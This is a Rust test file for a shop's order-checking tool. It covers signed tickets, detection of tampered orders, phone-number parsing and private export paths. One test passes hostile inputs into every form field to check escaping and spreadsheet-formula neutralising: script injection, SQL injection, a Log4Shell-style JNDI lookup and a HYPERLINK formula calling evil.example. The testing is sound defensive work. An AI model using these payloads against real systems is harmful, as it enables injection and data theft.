//! `posra orders`, as the person at the desk runs it, and the signatures that it checks.
//!
//! `tests/desk/shop` is the shop; every other folder there holds exports, and in `said` what the desk says of them.

use std::{
    collections::{BTreeMap, BTreeSet},
    fs,
    path::{Path, PathBuf},
    process::Command,
};

use posra::{
    config::Variables,
    diag::Diagnostics,
    orders::{self, Desk, Weight, e164},
    pipeline::{self, Settings},
    sheet::Kind,
    ticket::Seal,
};

use crate::support::{Quiet, Shop, repository, said, tell};

/// The private key of the shops of these tests, and of no other.
const KEY: &str = "6REB09gDP6HQVUQHJP-mLcMhj5PyH4r9yoIc9NjwFD4";

fn folder() -> PathBuf {
    repository().join("tests/desk")
}

fn shop() -> Shop {
    Shop::copy_of(&folder().join("shop"))
}

fn signing(shop: &Shop) -> Settings {
    let variables = Variables::from_iter([("POSRA_ORDER_KEY".to_owned(), KEY.to_owned())]);
    Settings { variables, ..shop.settings() }
}

fn posra(shop: &Shop, arguments: &[&str], exports: &[PathBuf]) -> (i32, String, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_posra"))
        .args(["--speak", "en", "orders"])
        .args(exports)
        .args(arguments)
        .args(["--root".as_ref(), shop.path().as_os_str()])
        .args(["--now", "2026-11-26"])
        .output()
        .unwrap();
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
    (output.status.code().unwrap(), text(output.stdout), text(output.stderr))
}

#[test]
fn the_desk_says_what_is_written_beside_each_export() {
    let shop = shop();
    let mut wrong = Vec::new();
    let mut cases = 0;
    for case in fs::read_dir(folder()).unwrap().map(|entry| entry.unwrap().path()) {
        if case.ends_with("shop") {
            continue;
        }
        cases += 1;
        let mut exports: Vec<PathBuf> =
            fs::read_dir(&case).unwrap().map(|entry| entry.unwrap().path()).collect();
        exports.retain(|path| !path.ends_with("said"));
        exports.sort();
        let (code, out, faults) = posra(&shop, &[], &exports);
        let found = format!("{out}{faults}exit {code}\n");
        let place = case.join("said");
        if std::env::var_os("POSRA_UPDATE").is_some() {
            fs::write(&place, &found).unwrap();
        }
        if fs::read_to_string(&place).unwrap_or_default() != found {
            wrong.push(format!("{}:\n{found}", case.display()));
        }
    }
    assert!(cases >= 15, "only {cases} cases");
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn pages_are_signed_by_the_facts_alone_and_the_key_stands_nowhere() {
    let shop = shop();
    let ticket = |shop: &Shop| {
        let page = shop.page("products/cup/");
        page.split_once("name=\"ticket\" value=\"")
            .map(|(_, rest)| rest.split('"').next().unwrap().to_owned())
    };
    let report = shop.built();
    assert!(report.built.unwrap().unsigned);
    assert_eq!(ticket(&shop), None);
    let build = || pipeline::build(&signing(&shop), &Quiet).unwrap();
    assert!(!build().built.unwrap().unsigned);
    let (first, whole) = (ticket(&shop).unwrap(), shop.output());
    assert!(
        first.starts_with("posra1*clay.example/*BDT*CUP-S=45000/6:40000,CUP-L=45000/6:40000*"),
        "{first}"
    );
    assert!(build().built.unwrap().unchanged);
    // Words are no facts: the page is another one, its ticket is not.
    shop.edit("content/products/cup/index.md", "A cup.", "A cup for tea.");
    build();
    assert_eq!(ticket(&shop).unwrap(), first);
    let changed = shop.output().iter().filter(|(path, bytes)| whole.get(*path) != Some(bytes)).count();
    assert!(changed > 0 && changed < whole.len(), "{changed} of {} files", whole.len());
    // A fact is.
    shop.edit("content/policies/delivery.md", "charge = 60", "charge = 70");
    build();
    assert_ne!(ticket(&shop).unwrap(), first);
    for (path, bytes) in crate::support::tree(shop.path()) {
        assert!(!String::from_utf8_lossy(&bytes).contains(KEY), "{path} holds the private key");
    }
}

#[test]
fn a_key_may_stand_in_a_file_and_a_wrong_one_is_told() {
    let shop = shop();
    shop.edit("posra.toml", "until = \"month\"", "file = \"order.key\"");
    assert!(shop.built().built.unwrap().unsigned, "no file, no signature, no fault");
    shop.write("order.key", &format!("{KEY}\n"));
    assert!(!shop.built().built.unwrap().unsigned);
    shop.write("order.key", "not a key");
    assert_eq!(said(&shop.build()), ["error ticket.secret posra.toml:11:1"]);
    shop.write("order.key", &Seal::from_bytes([1; 32]).secret());
    assert_eq!(said(&shop.build()), ["error ticket.key-other posra.toml:11:1"]);
}

/// A body as the page of `product` posts it.
fn order(shop: &Shop, product: &str, typed: &[(&str, &str)]) -> BTreeMap<String, String> {
    let page = shop.page(&format!("products/{product}/"));
    let form = page.split_once("<form").unwrap().1.split_once("</form>").unwrap().0;
    let value = |tag: &str, name: &str| {
        let (_, rest) = tag.split_once(&format!("{name}=\""))?;
        Some(rest.split('"').next().unwrap().to_owned())
    };
    let mut fields: BTreeMap<String, String> = form
        .split('<')
        .filter(|tag| tag.starts_with("input type=\"hidden\""))
        .map(|tag| (value(tag, "name").unwrap(), value(tag, "value").unwrap()))
        .collect();
    fields.extend(typed.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())));
    fields
}

fn body(fields: &BTreeMap<String, String>) -> String {
    url::form_urlencoded::Serializer::new(String::new()).extend_pairs(fields).finish()
}

/// What the desk says of some bodies.
fn desk(settings: &Settings, bodies: &str) -> Desk {
    let mut found = Diagnostics::new();
    let posted = orders::read("bodies.txt", bodies.as_bytes(), &mut found);
    assert!(!found.has_errors());
    let mut desk = Desk::default();
    pipeline::with_catalog(settings, &mut |catalog, _| {
        desk = orders::check(catalog, &posted);
        Ok(())
    })
    .unwrap();
    desk
}

#[test]
fn of_ten_thousand_orders_every_altered_one_is_caught_and_no_other() {
    let shop = shop();
    pipeline::build(&signing(&shop), &Quiet).unwrap();
    let typed = [
        ("variant", "CUP-S"),
        ("quantity", "2"),
        ("name", "Rahima"),
        ("address", "Mirpur"),
        ("zone", "dhaka"),
        ("payment", "cod"),
        ("note", ""),
        ("consent", "yes"),
    ];
    let whole = order(&shop, "cup", &typed);
    // Fields with which an order could be made cheaper or false. What people type freely has no right value.
    let facts = ["kind", "product", "variant", "quantity", "zone", "payment", "consent", "ticket"];
    let (mut bodies, mut altered) = (String::new(), BTreeSet::new());
    let mut numbers = 0u32..;
    let mut add = |fields: &BTreeMap<String, String>, is_altered: bool| {
        let number = numbers.next().unwrap();
        let mut fields = fields.clone();
        fields.insert("mobile".to_owned(), format!("017{number:08}"));
        fields.insert("number".to_owned(), number.to_string());
        bodies.push_str(&body(&fields));
        bodies.push('\n');
        if is_altered {
            altered.insert(number.to_string());
        }
    };
    for round in 0..1250u32 {
        add(&whole, false);
        for field in facts.iter().take(7) {
            let mut fields = whole.clone();
            let value = fields[*field].clone();
            let other = match *field {
                "consent" => String::new(),
                "quantity" => {
                    ["0", "-1", "1000000000", "1.5", "11", "", "2e1", "০"][round as usize % 8].to_owned()
                }
                // One character is another one, somewhere.
                _ => {
                    let at = (round as usize * 7 + 3) % value.len();
                    let new = if value.as_bytes()[at] == b'x' { "y" } else { "x" };
                    format!("{}{new}{}", &value[..at], &value[at + 1..])
                }
            };
            fields.insert((*field).to_owned(), other);
            add(&fields, true);
        }
        let mut fields = whole.clone();
        let ticket = fields["ticket"].clone();
        let at = round as usize % ticket.len();
        let new = if ticket.as_bytes()[at] == b'x' { "y" } else { "x" };
        fields.insert("ticket".to_owned(), format!("{}{new}{}", &ticket[..at], &ticket[at + 1..]));
        add(&fields, true);
    }
    let desk = desk(&signing(&shop), &bodies);
    let caught: BTreeSet<String> =
        desk.orders.iter().filter(|one| one.weight().is_some()).map(|one| one.number.clone()).collect();
    tell(&format!("orders: {}, altered: {}, caught: {}", desk.orders.len(), altered.len(), caught.len()));
    assert!(desk.orders.len() >= 10_000);
    assert_eq!(caught, altered);
    let free: Vec<_> = desk.orders.iter().filter(|one| one.weight().is_none()).collect();
    assert!(free.iter().all(|one| one.total().unwrap().minor() == 96_000 && one.kind == orders::Kind::Order));
}

#[test]
fn a_new_key_keeps_orders_under_way_valid_and_an_ended_one_says_so() {
    let shop = shop();
    pipeline::build(&signing(&shop), &Quiet).unwrap();
    let typed = [
        ("variant", "CUP-S"),
        ("quantity", "1"),
        ("name", "R"),
        ("address", "A"),
        ("zone", "dhaka"),
        ("payment", "cod"),
        ("consent", "yes"),
    ];
    let mobile = ("mobile", "01712345678");
    let old = order(&shop, "cup", &[&typed[..], &[mobile]].concat());
    let new = Seal::from_bytes([2; 32]);
    let keys = shop.read("posra.toml");
    let own = keys.split_once("keys = [").unwrap().1.split_once(']').unwrap().0;
    shop.write("posra.toml", &keys.replace(own, &format!("\"{}\", {own}", new.public().as_str())));
    let names =
        |desk: &Desk| -> Vec<&str> { desk.orders[0].findings.iter().map(orders::Finding::name).collect() };
    assert_eq!(names(&desk(&shop.settings(), &body(&old))), Vec::<&str>::new());
    shop.write("posra.toml", &keys.replace(own, &format!("\"{}\"", new.public().as_str())));
    assert_eq!(names(&desk(&shop.settings(), &body(&old))), ["ticket-unknown-key"]);
    shop.write("posra.toml", &keys);
    shop.edit("content/products/cup/index.md", "price = 450", "price = 500");
    let dearer = desk(&shop.settings(), &body(&old));
    assert_eq!(names(&dearer), ["price-changed"]);
    assert_eq!(dearer.orders[0].goods.unwrap().minor(), 45_000, "the shop keeps what its page promised");
}

#[test]
fn payloads_and_bulk_in_every_field_stop_nothing() {
    let shop = shop();
    pipeline::build(&signing(&shop), &Quiet).unwrap();
    let whole = order(
        &shop,
        "cup",
        &[
            ("variant", "CUP-S"),
            ("quantity", "1"),
            ("name", "R"),
            ("address", "A"),
            ("zone", "dhaka"),
            ("payment", "cod"),
            ("note", ""),
            ("mobile", "01712345678"),
        ],
    );
    let controls: String = (0u8..32).map(char::from).chain(['\u{7f}', '\u{202e}', '\u{feff}']).collect();
    let payloads = [
        "x".repeat(1_000_000),
        controls,
        "<script>alert(1)</script>".to_owned(),
        "=HYPERLINK(\"https://evil.example\")".to_owned(),
        "'; DROP TABLE orders; --".to_owned(),
        "\u{ff1d}1+1".to_owned(),
        "%s%n{{7*7}}${jndi:ldap://evil.example}".to_owned(),
        "1".repeat(1_000_000),
    ];
    let mut bodies = String::new();
    for payload in &payloads {
        for field in whole.keys() {
            let mut fields = whole.clone();
            fields.insert(field.clone(), payload.clone());
            bodies.push_str(&body(&fields));
            bodies.push('\n');
        }
    }
    let desk = desk(&signing(&shop), &bodies);
    assert_eq!(desk.came, payloads.len() * whole.len());
    pipeline::with_catalog(&signing(&shop), &mut |catalog, _| {
        let slips = orders::slips(catalog, &desk, posra::diag::Speech::English);
        assert!(!slips.contains("<script") && slips.contains("&lt;script&gt;"));
        let sheet = String::from_utf8(orders::sheet(catalog, &desk, Kind::Csv).unwrap()).unwrap();
        let formula = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\u{ff1d}']);
        let mut reader = csv::Reader::from_reader(sheet.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect();
        assert!(cells.len() > 500 && !cells.iter().any(|cell| formula(cell)));
        assert!(cells.iter().all(|cell| cell.chars().count() <= 500 && !cell.contains('\u{202e}')));
        Ok(())
    })
    .unwrap();
    assert!(desk.orders.iter().all(|one| one.note.chars().count() <= 500));
}

#[test]
fn numbers_are_read_however_they_are_typed() {
    let countries = [
        "BD", "IN", "PK", "NP", "GB", "DE", "SA", "AE", "MY", "SG", "AU", "FR", "ZA", "BR", "JP", "CA", "NG",
        "PH", "ID", "EG",
    ];
    let mut spellings = 0;
    for country in countries {
        let id: phonenumber::country::Id = country.parse().unwrap();
        let database = &phonenumber::metadata::DATABASE;
        let metadata = database.by_id(country).unwrap();
        let example = metadata.descriptors().mobile().unwrap().example().unwrap();
        let number = phonenumber::parse(Some(id), example).unwrap();
        let write = |mode| number.format().mode(mode).to_string();
        let wanted = write(phonenumber::Mode::E164);
        let national = write(phonenumber::Mode::National);
        let international = write(phonenumber::Mode::International);
        let digits: String = national.chars().filter(char::is_ascii_digit).collect();
        let bare = wanted.trim_start_matches('+').to_owned();
        let bengali = |text: &str| -> String {
            text.chars()
                .map(|one| one.to_digit(10).map_or(one, |digit| char::from_u32(0x9e6 + digit).unwrap()))
                .collect()
        };
        let spaced = |text: &str, mark: &str| -> String {
            text.chars()
                .collect::<Vec<_>>()
                .chunks(3)
                .map(|three| three.iter().collect::<String>())
                .collect::<Vec<_>>()
                .join(mark)
        };
        let mut typed =
            vec![wanted.clone(), national.clone(), international.clone(), digits.clone(), bare.clone()];
        typed.extend([" ", "-", ".", " - ", "\u{a0}"].map(|mark| spaced(&digits, mark)));
        typed.extend([" ", "-", "."].map(|mark| format!("+{}", spaced(&bare, mark))));
        typed.extend(
            [national.clone(), international.clone(), wanted.clone(), digits.clone()]
                .map(|one| bengali(&one)),
        );
        typed.extend(
            ["Mobile: ", "মোবাইল – ", "tel:", "\u{200f}", "  "].map(|before| format!("{before}{wanted}")),
        );
        typed.extend([
            format!("{digits}\u{200e}"),
            format!("\u{ff0b}{bare}"),
            format!("({digits})"),
            format!("{wanted} (WhatsApp)"),
        ]);
        if let Some(prefix) =
            metadata.international_prefix().filter(|_| !["SG", "AU", "BR", "JP", "CA"].contains(&country))
        {
            let prefix = prefix.as_str();
            if prefix.chars().all(|one| one.is_ascii_digit()) {
                typed.extend([
                    format!("{prefix}{bare}"),
                    format!("{prefix} {bare}"),
                    bengali(&format!("{prefix}{bare}")),
                ]);
            }
        }
        for typed in typed {
            spellings += 1;
            assert_eq!(e164(&typed, country).as_deref(), Some(&*wanted), "{typed:?} in {country}");
        }
    }
    tell(&format!("spellings of phone numbers: {spellings}"));
    assert!(spellings >= 500, "{spellings}");
    for typed in ["", "abc", "123", "01012345678", "017123456", "0171234567890", "+999 12345678"] {
        assert_eq!(e164(typed, "BD"), None, "{typed:?}");
    }
}

#[test]
fn what_is_made_of_orders_stands_where_nobody_sees_it() {
    let shop = shop();
    let exports = [folder().join("netlify/orders.csv")];
    let (code, out, faults) =
        posra(&shop, &["--sheet", "--slips", "--stock", "--courier", "steadfast"], &exports);
    assert_eq!((code, faults.as_str()), (0, ""), "{out}");
    assert_eq!(shop.read("orders/.gitignore"), "*\n");
    assert_eq!(shop.read("orders/stock.csv"), "sku,stock\nCUP-S,10\nPOT,1\n");
    let parcels = shop.read("orders/parcels.csv");
    let mut lines = parcels.lines();
    assert_eq!(
        lines.next(),
        Some("invoice,recipient_name,recipient_phone,recipient_address,cod_amount,note")
    );
    assert!(
        lines
            .next()
            .unwrap()
            .contains(",Rahima Khatun,01712345678,\"House 12, Road 5 Mirpur 10, Dhaka\",960,")
    );
    assert!(
        lines.next().unwrap().contains(",Karim Mia,01812345678,\"House 12, Road 5 Mirpur 10, Dhaka\",0,")
    );
    for courier in ["pathao", "redx", "paperfly"] {
        let (code, ..) = posra(&shop, &["--courier", courier], &exports);
        assert_eq!(code, 0);
        assert_eq!(shop.read("orders/parcels.csv").lines().count(), 3, "{courier}");
    }
    for forbidden in ["public/orders.csv", "content/orders.csv", "orders.csv", "orders/../content/x.csv"] {
        let path = shop.path().join(forbidden);
        let (code, _, faults) = posra(&shop, &[&format!("--sheet={}", path.display())], &exports);
        assert_eq!(code, 2, "{forbidden}");
        assert!(faults.contains("private"), "{faults}");
        assert!(!Path::new(&path).exists());
    }
    assert!(desk_is_stopped_by_nothing(&shop));
}

/// Findings alone are no error: the report is the result.
fn desk_is_stopped_by_nothing(shop: &Shop) -> bool {
    let (code, out, _) = posra(shop, &["--format", "json"], &[folder().join("err-goods/orders.txt")]);
    let said: serde_json::Value = serde_json::from_str(&out).unwrap();
    let stopped = said["orders"].as_array().unwrap().iter().filter(|one| one["verdict"] == "stop").count();
    code == 0 && stopped >= 8 && Weight::Stop > Weight::Look
}
